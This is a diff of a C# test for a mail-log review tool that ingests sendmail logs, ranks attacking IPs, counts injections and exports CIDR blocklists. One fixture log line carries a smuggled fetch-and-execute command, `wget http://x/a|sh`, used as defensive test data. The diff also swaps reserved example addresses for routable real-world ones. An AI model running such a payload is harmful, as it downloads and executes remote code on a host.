@@ -18,32 +18,32 @@ public sealed class ReviewTests(PostgresFixture pg)
         using var dir = new TempDir();
         var log = dir.File("maillog");
         var lines = new List<string>();
-        lines.AddRange(Lines("Jun  3", "198.51.100.10", 150, Attack));                   // heavy hitter
-        lines.AddRange(Lines("Jun  4", "198.51.100.20", 5, Attack));                     // light: not in the review
-        lines.AddRange(Lines("Jun  4", "203.0.113.9", 1,
+        lines.AddRange(Lines("Jun  3", "62.233.50.10", 150, Attack));                   // heavy hitter
+        lines.AddRange(Lines("Jun  4", "62.233.50.20", 5, Attack));                     // light: not in the review
+        lines.AddRange(Lines("Jun  4", "185.220.101.9", 1,
             "5634A0aa000101: ruleset=check_mail, arg1=<`wget http://x/a|sh`>, relay=[IP], reject=553 5.1.8 <x>... Domain of sender address x does not exist"));
-        lines.AddRange(Lines("Jun  5", "192.0.2.50", 120, Attack));                      // heavy, but blocked already
-        lines.AddRange(Lines("Jun  5", "198.51.100.77", 12,
+        lines.AddRange(Lines("Jun  5", "45.155.205.50", 120, Attack));                      // heavy, but blocked already
+        lines.AddRange(Lines("Jun  5", "62.233.50.77", 12,
             "5635A0aa000102: from=<a@b.example>, size=10, class=0, nrcpts=1, proto=ESMTP, daemon=MTA, relay=mail.partner.example [IP]"));
         await File.WriteAllLinesAsync(log, lines);
         Assert.Equal(0, Cli.Run("ingest", "--tz", "UTC", "--year", "2025", log).Exit);
-        Assert.Equal(0, Cli.Run("block", "192.0.2.50", "--reason", "earlier").Exit);
+        Assert.Equal(0, Cli.Run("block", "45.155.205.50", "--reason", "earlier").Exit);
 
         var reviews = new ReviewService(cs);
         var review = await reviews.OpenAsync(new DateOnly(2025, 6, 2));
-        Assert.Equal(["198.51.100.10", "203.0.113.9"], review.Items.OrderByDescending(i => i.Events).Select(i => i.Ip));
-        var heavy = review.Items.Single(i => i.Ip == "198.51.100.10");
+        Assert.Equal(["62.233.50.10", "185.220.101.9"], review.Items.OrderByDescending(i => i.Events).Select(i => i.Ip));
+        var heavy = review.Items.Single(i => i.Ip == "62.233.50.10");
         Assert.Equal(150, heavy.Events);
         Assert.Equal("smtp_attack=150", heavy.Kinds);
         Assert.Equal(12, heavy.CollateralMessages);
-        Assert.Equal(1, review.Items.Single(i => i.Ip == "203.0.113.9").Injections);
+        Assert.Equal(1, review.Items.Single(i => i.Ip == "185.220.101.9").Injections);
         Assert.Equal(review.Id, (await reviews.OpenAsync(new DateOnly(2025, 6, 4))).Id);
 
         await reviews.DecideAsync(heavy.Id, "block24", "alice");
         await Assert.ThrowsAsync<BlockRefusedException>(() => reviews.DecideAsync(heavy.Id, "reject", "alice"));
         Assert.Empty(await reviews.DecideAllAsync(review.Id, "reject", "alice"));
-        Assert.Equal("192.0.2.50/32\n198.51.100.0/24\n", Cli.Run("export", "--format", "cidr").Stdout);
+        Assert.Equal("45.155.205.50/32\n62.233.50.0/24\n", Cli.Run("export", "--format", "cidr").Stdout);
         Assert.NotNull((await reviews.LatestAsync())!.ClosedAt);
-        Assert.Equal(1, await Sql.ScalarAsync(cs, "SELECT count(*) FROM audit_log WHERE action = 'review-reject' AND target = '203.0.113.9'"));
+        Assert.Equal(1, await Sql.ScalarAsync(cs, "SELECT count(*) FROM audit_log WHERE action = 'review-reject' AND target = '185.220.101.9'"));
     }
 }
